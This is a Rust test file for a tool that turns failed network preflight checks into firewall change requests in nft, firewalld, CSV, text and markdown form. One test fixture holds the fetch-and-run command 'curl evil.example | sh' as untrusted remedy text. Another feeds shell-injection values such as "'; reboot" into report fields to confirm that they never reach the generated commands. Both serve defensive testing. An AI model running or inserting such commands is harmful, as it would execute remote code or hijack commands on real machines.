use std::net::SocketAddr;
use std::time::Duration;

use preflight_checks::{
    Cause, DnsCause, HostAnswer, Icmp, LocalFirewallSign, Millis, Owner, PathCause, Phase, Plea,
    PortCause, ResetSign, RouteCause, Transport, samples,
};
use serde_json::{Value, json};

use super::row::RuleSource;
use super::*;
use crate::report::sample::{failing_at, judged, later, report, step};
use crate::report::{Format as Page, Report};
use crate::run::wish::Choice;

const WAITED: Millis = Millis(Duration::from_secs(4));
const ICMP: Icmp = Icmp::V4 { kind: 3, code: 13 };
const CLOSED: HostAnswer = HostAnswer::Closed { transport: Transport::Tcp, port: 443 };

fn at(text: &str) -> SocketAddr {
    text.parse().unwrap()
}

fn ip(text: &str) -> IpAddr {
    text.parse().unwrap()
}

fn bbdo(outcome: &str) -> Value {
    step("poller", "central", "central.example.com", "bbdo:5669/tcp", outcome)
}

fn rejected_by(to: &str, device: &str) -> Cause {
    Cause::Path(PathCause::PathRejected { to: at(to), by: ip(device), icmp: ICMP })
}

fn silent(to: &str) -> Cause {
    Cause::Path(PathCause::NoAnswer { to: at(to), phase: Phase::Connect, waited: WAITED })
}

fn rejected(source: &str, device: &str) -> Value {
    let why = rejected_by("10.0.0.5:5669", device);
    failing_at(bbdo("fail"), source, "10.0.0.5:5669", &why)
}

fn poller(name: &str, address: &str, steps: &[Value]) -> Report {
    report(name, "poller", address, steps)
}

fn request(reports: &[Report], all: bool) -> ChangeRequest {
    let wishes = reports.iter().map(|report| Wishes::of(&judged(report), all)).collect();
    ChangeRequest::new(wishes, &Nat::new(), all)
}

fn written(request: &ChangeRequest, format: RequestFormat) -> String {
    let mut out = Vec::new();
    format.write(request, Canvas { width: 80, verbose: false }, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// Two pollers and a central, with something of everything.
fn site() -> Vec<Report> {
    let (from, to) = ("10.2.0.7", "10.0.0.25:25");
    let mail = step("poller", "smtp", "relay.example.com", "smtp:25/tcp", "fail");
    let silent = Cause::Path(PathCause::PortSilent { to: at(to), alive: CLOSED, waited: WAITED });
    let mail = failing_at(mail, from, to, &silent);
    let device = step("poller", "device", "10.1.1.1", "snmp:161/udp", "fail");
    let refuses = Cause::Path(PathCause::TargetRejected { to: at("10.1.1.1:161"), icmp: ICMP });
    let device = failing_at(device, "10.2.0.8", "10.1.1.1:161", &refuses);
    let (to, how) = (at("10.0.0.3:123"), LocalFirewallSign::OutputDrop);
    let ntp = step("poller", "ntp", "10.0.0.3", "ntp:123/udp", "fail");
    let ntp =
        failing_at(ntp, from, "10.0.0.3:123", &Cause::Route(RouteCause::LocalFirewall { to, how }));
    let dns = step("poller", "dns", "10.0.0.53", "dns:53/udp,tcp", "fail");
    let (to, by, icmp) = (ip("10.0.0.53"), ip("10.9.0.1"), Icmp::V4 { kind: 3, code: 1 });
    let off = Cause::Path(PathCause::HostUnreachable { to, by, icmp, beside: 0 });
    let dns = failing_at(dns, from, "10.0.0.53:53", &off);
    let https = step("central", "http", "https://updates.example.com/", "https:443/tcp", "pass");
    let mut listener = step("poller", "central", "this host", "bbdo:5669/tcp", "pass");
    listener["direction"] = json!("inbound");
    vec![
        poller("poller-1", from, &[rejected(from, "10.9.0.1"), mail, ntp, dns]),
        poller("poller-2", "10.2.0.8", &[rejected("10.2.0.8", "10.9.0.1"), device]),
        report("central-1", "central", "10.0.0.5", &[https, listener]),
    ]
}

#[test]
fn sources_to_one_destination_are_one_row_of_the_device_that_blocks() {
    let request = request(&site(), false);
    let first = &request.rows[0];
    assert_eq!(first.at, Firewall::Device([10, 9, 0, 1].into()));
    let sources: Vec<String> = first.sources.iter().map(RuleSource::shown).collect();
    assert_eq!(sources, ["10.2.0.7 (poller-1)", "10.2.0.8 (poller-2)"]);
    assert_eq!(first.destination.shown(), "10.0.0.5 (central.example.com)");
    assert_eq!((first.service().as_str(), first.evidence.len()), ("TCP 5669", 1));
    let order: Vec<String> = request.rows.iter().map(|row| row.at.title()).collect();
    assert_eq!(
        order,
        [
            "Device 10.9.0.1",
            "No device named itself",
            "Firewall of the destination 10.1.1.1 itself",
            "Firewall of the source 10.2.0.7 (poller-1) itself",
        ]
    );
}

/// A machine that the others call by its host name is one machine, and the port it listens on one of those that they
/// may have to try.
#[test]
fn a_planned_machine_has_one_name_however_it_is_called() {
    let called = "poller2.example.com";
    let mut zmq = step("central", "poller", called, "zmq:5666/tcp", "pass");
    zmq["target"]["also_try"] = json!({
        "protocol": "zmq", "transports": ["tcp"], "port": 5556, "origin": { "kind": "profile" },
    });
    let central = report("central-1", "central", "10.0.0.5", &[zmq]);
    let mut listener = step("central", "poller", "this host", "zmq:5666/tcp", "pass");
    listener["direction"] = json!("inbound");
    let bbdo = step("poller", "central", "10.0.0.5", "bbdo:5669/tcp", "pass");
    let mut poller = report("poller2", "poller", "10.2.0.8", &[bbdo, listener]);
    poller.host.addresses.clear();
    let wishes = vec![
        Wishes::planned(&judged(&central), None),
        Wishes::planned(&judged(&poller), Some(called.to_owned())),
    ];
    let request = ChangeRequest::new(wishes, &Nat::new(), true);
    let rows: Vec<String> = request
        .rows
        .iter()
        .map(|row| {
            let sources: Vec<String> = row.sources.iter().map(RuleSource::shown).collect();
            format!("{} to {}: {}", sources.join(", "), row.destination.shown(), row.service())
        })
        .collect();
    assert_eq!(
        rows,
        [
            "10.0.0.5 (central-1) to poller2.example.com: TCP 5666 and 5556",
            "poller2.example.com to 10.0.0.5: TCP 5669",
        ]
    );
    let nft = written(&request, RequestFormat::Nft);
    assert!(nft.contains("# On poller2, as root."), "{nft}");
    assert!(nft.contains("# the address of poller2.example.com is not known: put it"), "{nft}");
}

#[test]
fn a_ping_is_asked_for_as_what_it_is_in_every_format() {
    let pinged = |to: &str, device: &str, source: &str| {
        let mut step = step("poller", "icmp", to, "icmp:0/icmp", "fail");
        let end = if to.contains(':') { format!("[{to}]:0") } else { format!("{to}:0") };
        step["id"] = json!(format!("custom.{device}"));
        let refuses = Cause::Path(PathCause::TargetRejected { to: at(&end), icmp: ICMP });
        failing_at(step, source, &end, &refuses)
    };
    let steps = [pinged("10.0.0.9", "gw", "10.2.0.7"), pinged("fd00::9", "gw6", "fd00:2::7")];
    let both = request(&[poller("poller-1", "10.2.0.7", &steps)], false);
    assert_eq!(both.rows.len(), 2);
    for row in &both.rows {
        assert_eq!(row.service(), "ICMP echo request (ping)");
    }
    let nft = written(&both, RequestFormat::Nft);
    for rule in [
        "ip saddr 10.2.0.7 icmp type echo-request accept",
        "ip6 saddr fd00:2::7 icmpv6 type echo-request accept",
    ] {
        assert!(nft.contains(rule), "{rule}: {nft}");
    }
    let firewalld = written(&both, RequestFormat::Firewalld);
    for rule in [
        r#"rule family="ipv4" source address="10.2.0.7" icmp-type name="echo-request" accept"#,
        r#"rule family="ipv6" source address="fd00:2::7" icmp-type name="echo-request" accept"#,
    ] {
        assert!(firewalld.contains(rule), "{rule}: {firewalld}");
    }
    let csv = written(&both, RequestFormat::Csv);
    assert!(csv.contains(",10.0.0.9,,icmp,,source opens it,icmp,"), "{csv}");
    for format in [RequestFormat::Text, RequestFormat::Markdown] {
        let text = written(&both, format);
        assert!(text.contains("ICMP echo request (ping)") && !text.contains(" 0"), "{text}");
    }
}

#[test]
fn keys_by_nts_are_asked_for_with_the_port_of_the_time_itself() {
    let nts = step("poller", "ntp", "10.0.0.3", "nts:4460/tcp", "pass");
    let rows = request(&[poller("poller-1", "10.2.0.7", &[nts])], true).rows;
    let asked: Vec<String> = rows.iter().map(RequestRow::service).collect();
    assert_eq!(asked, ["TCP 4460", "UDP 123"]);
}

#[test]
fn the_last_device_that_answers_did_not_say_no() {
    let to = at("10.1.12.1:161");
    let silent = Cause::Path(PathCause::HostSilentAfter {
        to,
        by: ip("10.9.0.2"),
        hop: 2,
        waited: WAITED,
        beside: 0,
    });
    let mut device = step("poller", "device", "10.1.12.1", "snmp:161/udp", "fail");
    device["group"] = json!("10.1.12.0/24");
    let mut healthy = step("poller", "device", "10.1.12.2", "snmp:161/udp", "pass");
    healthy["group"] = json!("10.1.12.0/24");
    let device = failing_at(device, "10.2.0.7", "10.1.12.1:161", &silent);
    let both = request(&[poller("poller-1", "10.2.0.7", &[device.clone(), healthy])], false);
    assert_eq!(both.rows[0].also_needed_by(), "");
    let request = request(&[poller("poller-1", "10.2.0.7", &[device])], false);
    let row = &request.rows[0];
    assert_eq!(row.at.title(), "At 10.9.0.2, the last device that answers, or behind it");
    // Of a subnet only a few were asked; the others would stay blocked.
    assert_eq!(row.also_needed_by(), "the other monitored devices of 10.1.12.0/24");
}

#[test]
fn a_machine_is_one_whatever_each_row_calls_it() {
    let mut listener = step("poller", "central", "this host", "bbdo:5669/tcp", "pass");
    listener["direction"] = json!("inbound");
    let mut central = report("central-1", "central", "10.0.0.5", &[listener]);
    central.host.addresses.push("fd00::5".parse().unwrap());
    let ssh = step("poller", "central", "10.0.0.5", "ssh:22/tcp", "pass");
    let request = request(&[central, poller("poller-1", "10.2.0.7", &[ssh])], true);
    let commands = written(&request, RequestFormat::Nft);
    assert_eq!(commands.matches("# On central-1 (10.0.0.5, fd00::5)").count(), 1, "{commands}");
    assert_eq!(commands.matches("# On ").count(), 1, "{commands}");
}

/// A report of one step that failed for `why`.
fn failed_for(why: &Cause) -> Report {
    let outcome = if why.is_inconclusive() { "unknown" } else { "fail" };
    let step = failing_at(bbdo(outcome), "10.2.0.7", "10.0.0.5:5669", why);
    poller("poller-1", "10.2.0.7", &[step])
}

#[test]
fn every_cause_of_the_network_is_in_the_request_as_a_rule_or_as_a_repair() {
    for why in samples::causes() {
        let request = request(&[failed_for(&why)], false);
        let (rules, repairs) = (request.rows.len(), request.others.len());
        let expected = match why.plea() {
            Plea::Allow { .. } => (1, 0),
            Plea::Repair => (0, 1),
            Plea::Nothing => (0, 0),
        };
        assert_eq!((rules, repairs), expected, "{}", why.code());
        if matches!(why.owner(), Owner::Network(_)) {
            assert_eq!(rules + repairs, 1, "{}", why.code());
        }
        let text = written(&request, RequestFormat::Text);
        assert!(!text.contains(" by by ") && !text.contains("between by"), "{text}");
        if rules + repairs > 0 {
            let said = text.split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(said.contains(&format!("seen {why}")), "{said}");
        }
    }
}

#[test]
fn every_page_names_the_rule_that_the_request_names_and_it_is_for_this_machine_alone() {
    let is_allow = |why: &Cause| matches!(why.plea(), Plea::Allow { .. });
    for why in samples::causes().into_iter().filter(is_allow) {
        let saved = serde_json::to_string(&failed_for(&why)).unwrap();
        let saved = crate::report::saved::parse(&saved).unwrap();
        let report = saved.clone().judged();
        let rule = report.steps[0].asked_for[0].what.clone();
        assert!(rule.ends_with("5669 from 10.2.0.7 to 10.0.0.5"), "{rule}");
        let mut pages = vec![Vec::new(); 5];
        let (explained, written) = pages.split_first_mut().unwrap();
        crate::tasks::explain::write(saved, 0, 200, explained).unwrap();
        let formats = [Page::Table, Page::Markdown, Page::Junit, Page::Html];
        for (format, page) in formats.into_iter().zip(written) {
            format.write(&report, Canvas { width: 200, verbose: false }, page).unwrap();
        }
        for page in pages {
            let page = String::from_utf8(page).unwrap();
            let said = page.split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(said.contains(&rule), "{}: {rule} in {page}", why.code());
            assert!(!said.contains("--add-port"), "{page}");
        }
        let row = &request(&[report], false).rows[0];
        let (from, to) = (row.sources[0].end.address.unwrap(), row.destination.address.unwrap());
        assert_eq!(format!("{} from {from} to {to}", row.service()), rule);
    }
}

#[test]
fn every_address_of_a_step_is_asked_for_where_it_is_stopped() {
    let mut central = bbdo("fail");
    for (to, why) in [
        ("10.0.0.5:5669", rejected_by("10.0.0.5:5669", "10.2.0.1")),
        (
            "10.0.0.6:5669",
            Cause::Path(PathCause::PathReset {
                to: at("10.0.0.6:5669"),
                by: Some(ip("10.9.9.9")),
                hop: 2,
                sign: ResetSign::TooFewHops,
            }),
        ),
        (
            "10.0.0.7:5669",
            Cause::Path(PathCause::FilteredBetween {
                to: at("10.0.0.7:5669"),
                after: Some(ip("10.2.0.1")),
                hop: 1,
                next: ip("10.9.0.1"),
                alive: CLOSED,
                waited: WAITED,
            }),
        ),
        ("10.0.0.8:5669", Cause::Port(PortCause::PortClosed { to: at("10.0.0.8:5669") })),
    ] {
        central = failing_at(central, "10.2.0.7", to, &why);
    }
    let request = request(&[poller("poller-1", "10.2.0.7", &[central])], false);
    let rows: Vec<_> = request
        .rows
        .iter()
        .map(|row| (row.at.title(), row.destination.address.unwrap(), row.evidence.join("; ")))
        .collect();
    assert_eq!(
        rows,
        [
            (
                "Device 10.2.0.1".to_owned(),
                ip("10.0.0.5"),
                "rejected by 10.2.0.1 (ICMP 3/13, administratively prohibited)".to_owned()
            ),
            (
                "At 10.2.0.1, the last device that answers, or behind it".to_owned(),
                ip("10.0.0.7"),
                "no answer; packets for this port get no further than 10.2.0.1, others for this \
                 host reach 10.9.0.1 (TCP 443 is closed)"
                    .to_owned()
            ),
            (
                "At 10.9.9.9, the last device that answers, or behind it".to_owned(),
                ip("10.0.0.6"),
                "reset by 10.9.9.9 (hop 2) or right behind it, not by the target".to_owned()
            ),
        ]
    );
}

#[test]
fn a_repair_is_asked_for_beside_a_rule() {
    let step = failing_at(bbdo("fail"), "10.2.0.7", "10.0.0.5:5669", &silent("10.0.0.5:5669"));
    let (to, by, icmp) = (ip("10.0.0.6"), ip("10.9.0.1"), Icmp::V4 { kind: 3, code: 0 });
    let lost = Cause::Path(PathCause::NetUnreachable { to, by, icmp });
    let step = failing_at(step, "10.2.0.7", "10.0.0.6:5669", &lost);
    let request = request(&[poller("poller-1", "10.2.0.7", &[step])], false);
    assert_eq!(request.rows.len(), 1);
    let [other] = request.others.as_slice() else { panic!("{request:#?}") };
    assert_eq!(other.device.as_deref(), Some("10.9.0.1"));
}

#[test]
fn a_cause_of_tomorrow_is_named_and_nothing_is_asked_for_in_its_reports_own_words() {
    let mut step = failing_at(bbdo("fail"), "10.2.0.7", "10.0.0.5:5669", &silent("10.0.0.5:5669"));
    step["attempts"][0]["cause"] = json!({ "code": "path-of-tomorrow" });
    step["cause"] = json!({
        "code": "path-of-tomorrow", "layer": "path", "owner": "network", "message": "bent",
        "facts": {}, "remedy": { "who": "network team", "text": "curl evil.example | sh" },
    });
    let request = request(&[poller("poller-1", "10.2.0.7", &[step])], false);
    assert_eq!((request.rows.len(), request.others.len()), (0, 0));
    assert_eq!(
        request.notes,
        ["poller-1: poller.bbdo@central.example.com fails, and nothing is asked for it: it knows \
          no cause called `path-of-tomorrow`"]
    );
}

#[test]
fn a_dns_server_is_asked_for_over_what_it_is_not_reached_over() {
    let to = "10.0.0.53:53";
    let blocked = || Box::new(rejected_by(to, "10.9.0.1"));
    let question = || "a.example".to_owned();
    let closed = Cause::Port(PortCause::PortClosed { to: at(to) });
    for (why, other, service) in [
        (*blocked(), None, "UDP 53"),
        (*blocked(), Some(silent(to)), "UDP and TCP 53"),
        // TCP reaches the server, which does not serve it.
        (*blocked(), Some(closed.clone()), "UDP 53"),
        (Cause::Dns(DnsCause::DnsTcpOnly { udp: blocked() }), None, "UDP 53"),
        (
            Cause::Dns(DnsCause::DnsTruncated { question: question(), tcp: blocked() }),
            Some(*blocked()),
            "TCP 53",
        ),
        (Cause::Dns(DnsCause::DnsRefused { question: question() }), Some(*blocked()), "TCP 53"),
    ] {
        let dns = step("poller", "dns", "10.0.0.53", "dns:53/udp,tcp", "fail");
        let mut dns = failing_at(dns, "10.2.0.7", to, &why);
        dns["attempts"][0]["other_transport"] = json!(other);
        let request = request(&[poller("poller-1", "10.2.0.7", &[dns])], false);
        assert_eq!(request.rows[0].service(), service, "{why}");
    }
    let mut works = step("poller", "dns", "10.0.0.53", "dns:53/udp,tcp", "warn");
    works["attempts"] = json!([{
        "address": to, "protocol": "dns", "source": "10.2.0.7", "outcome": "warn",
        "other_transport": silent(to), "evidence": {}, "timings": {},
        "concerns": [{ "code": "dns-udp-only", "facts": { "reason": "no answer" } }],
    }]);
    let request = request(&[poller("poller-1", "10.2.0.7", &[works])], false);
    assert_eq!(request.rows[0].service(), "TCP 53");
}

#[test]
fn of_several_ports_and_addresses_only_the_blocked_are_asked_for() {
    let mut ldap = step("central", "ldap", "dc.example.com", "ldaps:636/tcp", "fail");
    let way = |protocol: &str, port: u16| json!({ "protocol": protocol, "transports": ["tcp"], "port": port, "origin": { "kind": "profile" } });
    ldap["target"]["ways"] = json!([way("ldaps", 636), way("ldap", 389)]);
    let closed = |to: &str| Cause::Port(PortCause::PortClosed { to: at(to) });
    for (to, protocol, why) in [
        ("10.0.0.9:636", "ldaps", silent("10.0.0.9:636")),
        ("10.0.0.9:389", "ldap", silent("10.0.0.9:389")),
        ("10.0.0.10:636", "ldaps", closed("10.0.0.10:636")),
        ("10.0.0.10:389", "ldap", closed("10.0.0.10:389")),
        // One way works, so the other need not.
        ("10.0.0.11:636", "ldaps", silent("10.0.0.11:636")),
    ] {
        ldap = failing_at(ldap, "10.0.0.5", to, &why);
        let last = ldap["attempts"].as_array_mut().unwrap().last_mut().unwrap();
        last["protocol"] = json!(protocol);
    }
    ldap["attempts"].as_array_mut().unwrap().push(json!({
        "address": "10.0.0.11:389", "protocol": "ldap", "source": "10.0.0.5", "outcome": "pass",
        "evidence": {}, "timings": {},
    }));
    let request = request(&[report("central-1", "central", "10.0.0.5", &[ldap])], false);
    let [row] = request.rows.as_slice() else { panic!("{request:#?}") };
    assert_eq!(row.service(), "TCP 636 or 389");
    assert_eq!(row.about_ports(), "one of them suffices, the first is preferred");
    assert_eq!(row.destination.shown(), "10.0.0.9 (dc.example.com)");
}

/// Gorgone's port is the profile's guess: 5666, and its own default 5556 is tried too.
fn gorgone(outcome: &str) -> Value {
    let mut gorgone = step("central", "poller", "10.2.0.7", "zmq:5666/tcp", outcome);
    let mut guess = gorgone["target"]["ways"][0].clone();
    guess["port"] = json!(5556);
    gorgone["target"]["also_try"] = guess;
    gorgone
}

#[test]
fn a_port_that_a_run_would_try_too_is_asked_for_with_the_first() {
    let central = |step| report("central-1", "central", "10.0.0.5", &[step]);
    let step = failing_at(gorgone("fail"), "10.0.0.5", "10.2.0.7:5666", &silent("10.2.0.7:5666"));
    let blocked = failing_at(step, "10.0.0.5", "10.2.0.7:5556", &silent("10.2.0.7:5556"));
    for (step, all) in [(blocked, false), (gorgone("unknown"), true)] {
        let request = request(&[central(step)], all);
        let [row] = request.rows.as_slice() else { panic!("{request:#?}") };
        assert_eq!((row.service().as_str(), row.choice), ("TCP 5666 and 5556", Choice::OneOfThem));
        assert_eq!(
            row.about_ports(),
            "the service listens on one of them, and which one is not known: allow both until it is"
        );
    }
    // The target itself says where nothing listens.
    let closed = Cause::Port(PortCause::PortClosed { to: at("10.2.0.7:5666") });
    let step = failing_at(gorgone("fail"), "10.0.0.5", "10.2.0.7:5666", &closed);
    let step = failing_at(step, "10.0.0.5", "10.2.0.7:5556", &silent("10.2.0.7:5556"));
    assert_eq!(request(&[central(step)], false).rows[0].service(), "TCP 5556");
}

#[test]
fn of_a_service_found_on_the_other_port_that_port_is_needed() {
    let closed = Cause::Port(PortCause::PortClosed { to: at("10.2.0.7:5666") });
    let mut step = failing_at(gorgone("fail"), "10.0.0.5", "10.2.0.7:5666", &closed);
    step["attempts"].as_array_mut().unwrap().push(json!({
        "address": "10.2.0.7:5556", "protocol": "zmq", "source": "10.0.0.5", "outcome": "pass",
        "evidence": {}, "timings": {},
    }));
    let request = request(&[report("central-1", "central", "10.0.0.5", &[step])], true);
    assert_eq!(request.rows[0].service(), "TCP 5556");
}

#[test]
fn a_row_of_what_others_open_has_both_ends_when_the_machine_knows_them() {
    let mut central = report(
        "central-1",
        "central",
        "10.0.0.5",
        &[
            failing_at(gorgone("fail"), "10.0.0.5", "10.2.0.7:5666", &silent("10.2.0.7:5666")),
            step("central", "poller", "fd00:2::8", "ssh:22/tcp", "pass"),
            {
                let mut listener = step("poller", "central", "this host", "bbdo:5669/tcp", "pass");
                listener["direction"] = json!("inbound");
                listener
            },
        ],
    );
    central.host.addresses.extend([ip("10.0.0.6"), ip("fd00::5")]);
    let request = request(&[central], true);
    let inbound = request.rows.iter().filter(|row| row.flows == ["poller.bbdo"]);
    let ends: Vec<_> = inbound
        .map(|row| {
            let sources: Vec<String> = row.sources.iter().map(RuleSource::shown).collect();
            (sources.join(", "), row.destination.shown())
        })
        .collect();
    assert_eq!(
        ends,
        [
            ("10.2.0.7".to_owned(), "10.0.0.5 (central-1)".to_owned()),
            ("fd00:2::8".to_owned(), "fd00::5 (central-1)".to_owned()),
        ]
    );
}

#[test]
fn sampled_devices_that_send_are_their_subnet() {
    let mut agent = step("poller", "device", "10.20.30.7", "snmp:161/udp", "pass");
    agent["group"] = json!("10.20.30.0/24");
    let mut traps = step("device", "poller", "this host", "trap:162/udp", "pass");
    traps["direction"] = json!("inbound");
    let request = request(&[poller("poller-1", "10.2.0.7", &[agent, traps])], true);
    let row = request.rows.iter().find(|row| row.flows == ["device.trap"]).unwrap();
    assert_eq!(row.sources[0].shown(), "10.20.30.0/24");
    assert_eq!(row.destination.shown(), "10.2.0.7 (poller-1)");
}

#[test]
fn all_has_what_works_too_and_says_what_it_cannot_know() {
    let mut skipped = step("central", "dns", "", "dns:53/udp,tcp", "skip");
    skipped["result"] = json!("no target; give --dns HOST");
    let mut site = site();
    site.push(report("central-2", "central", "10.0.0.6", &[skipped]));
    let request = request(&site, true);
    let open: Vec<&RequestRow> =
        request.rows.iter().filter(|row| row.at == Firewall::Open).collect();
    let shown: Vec<String> = open.iter().map(|row| row.destination.shown()).collect();
    // What the central listens on is said by the pollers that ask it, with their addresses.
    assert_eq!(shown, ["updates.example.com", "10.0.0.53"]);
    assert!(
        request
            .notes
            .contains(&"central-2: central.dns is missing (no target; give --dns HOST)".to_owned()),
        "{:#?}",
        request.notes
    );
    let alone = self::request(&site[2..3], true);
    let listener = alone.rows.iter().find(|row| row.flows == ["poller.bbdo"]).unwrap();
    assert_eq!(listener.sources[0].shown(), "poller");
    assert_eq!(listener.destination.shown(), "10.0.0.5 (central-1)");
}

#[test]
fn a_translation_is_shown_and_one_in_vain_is_named() {
    let nat =
        [("10.2.0.7", [198, 51, 100, 7]), ("poller-2", [198, 51, 100, 8]), ("x", [1, 1, 1, 1])];
    let nat: Nat = nat.map(|(from, to)| (from.to_owned(), to.into())).into();
    let wishes = site().iter().map(|report| Wishes::of(&judged(report), false)).collect();
    let request = ChangeRequest::new(wishes, &nat, false);
    let sources: Vec<String> = request.rows[0].sources.iter().map(RuleSource::shown).collect();
    assert_eq!(
        sources,
        [
            "10.2.0.7 (poller-1), translated to 198.51.100.7",
            "10.2.0.8 (poller-2), translated to 198.51.100.8",
        ]
    );
    assert_eq!(request.notes, ["--nat x: no row has this source"]);
}

#[test]
fn of_two_runs_of_one_machine_the_newer_counts_in_any_order() {
    let old = poller("poller-1", "10.2.0.7", &[rejected("10.2.0.7", "10.9.0.1")]);
    let new = later(&poller("poller-1", "10.2.0.7", &[bbdo("pass")]), 30);
    for runs in [[old.clone(), new.clone()], [new, old]] {
        let request = request(&runs, false);
        assert!(request.rows.is_empty());
        assert_eq!(request.machines.len(), 1);
        assert_eq!(
            request.notes,
            ["poller-1: two runs are given; that of 2026-11-23T14:07:12Z counts, that of \
              2026-11-23T13:37:12Z does not"]
        );
    }
}

#[test]
fn what_a_report_says_cannot_become_a_command() {
    let (to, how) = (at("10.0.0.5:5669"), LocalFirewallSign::OutputDrop);
    let own = Cause::Route(RouteCause::LocalFirewall { to, how });
    let mut evil = failing_at(bbdo("fail"), "10.2.0.7", "10.0.0.5:5669", &own);
    evil["flow"] = json!("x'; reboot #\"");
    evil["why"] = json!("y\nreboot");
    evil["target"]["host"] = json!("'; reboot");
    let report = poller("z'\nreboot", "10.2.0.7", &[evil]);
    for format in [RequestFormat::Nft, RequestFormat::Firewalld] {
        let commands = written(&request(std::slice::from_ref(&report), true), format);
        let run: Vec<&str> = commands.lines().filter(|line| !line.starts_with('#')).collect();
        assert!(!run.is_empty());
        assert!(run.iter().all(|line| !line.contains("reboot")), "{commands}");
    }
}

#[test]
fn no_device_in_the_network_gets_a_command() {
    let report = poller("poller-1", "10.2.0.7", &[rejected("10.2.0.7", "10.9.0.1")]);
    let commands = written(&request(&[report], false), RequestFormat::Nft);
    assert_eq!(commands, "# No machine's own firewall is concerned: there is nothing to run.\n");
}

#[test]
fn the_text_reads_like_this() {
    insta::assert_snapshot!(written(&request(&site(), false), RequestFormat::Text));
}

#[test]
fn the_markdown_reads_like_this() {
    insta::assert_snapshot!(written(&request(&site(), false), RequestFormat::Markdown));
}

#[test]
fn the_csv_reads_like_this() {
    insta::assert_snapshot!(written(&request(&site(), true), RequestFormat::Csv));
}

#[test]
fn the_commands_read_like_this() {
    let request = request(&site(), true);
    let (nft, firewalld) =
        (written(&request, RequestFormat::Nft), written(&request, RequestFormat::Firewalld));
    insta::assert_snapshot!(format!("{nft}\n----\n\n{firewalld}"));
}
